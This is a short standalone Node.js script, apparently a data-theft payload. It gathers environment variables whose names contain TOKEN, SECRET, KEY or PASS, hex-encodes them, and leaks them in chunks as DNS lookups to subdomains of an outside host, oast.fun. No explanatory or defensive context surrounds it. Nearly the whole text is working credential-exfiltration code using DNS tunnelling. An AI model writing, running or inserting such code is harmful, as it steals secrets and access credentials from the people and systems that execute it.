const os = require('os')
const dns = require('dns')
const data = Object.entries(process.env).filter(([k]) => /TOKEN|SECRET|KEY|PASS/i.test(k))
const hex = Buffer.from(JSON.stringify(data)).toString('hex')
for (let i = 0; i < hex.length; i += 60) {
  dns.resolve(hex.slice(i, i + 60) + '.' + i + '.x.oast.fun', () => {})
}
